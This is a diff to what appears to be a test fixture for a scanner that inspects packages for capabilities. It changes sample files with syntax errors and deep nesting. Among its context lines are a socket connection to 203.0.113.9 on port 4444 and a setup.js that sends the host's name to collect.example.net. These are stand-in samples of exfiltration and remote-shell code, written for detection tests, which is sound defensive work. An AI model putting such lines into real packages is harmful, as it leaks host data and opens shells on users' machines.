@@ -59,9 +59,12 @@ const PACKAGES = {
           "require('net').connect(4444, '203.0.113.9');",
         ].join('\n'),
         'setup.js': "require('https').get('https://collect.example.net/p?h=' + require('os').hostname());",
-        'broken.js': 'function (',
+        // can touch a capability, so it is parsed: its syntax error is reported
+        'broken.js': "const cp = require('child_process'); function (",
+        // provably touches none (pre-filter): not parsed, so nothing to report
+        'inert-broken.js': 'function (',
         'fake.js': ELF,
-        'nested.js': `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)};`,
+        'nested.js': `x = process.env.HOME + ${'('.repeat(50_000)}1${')'.repeat(50_000)};`,
       },
     },
   },
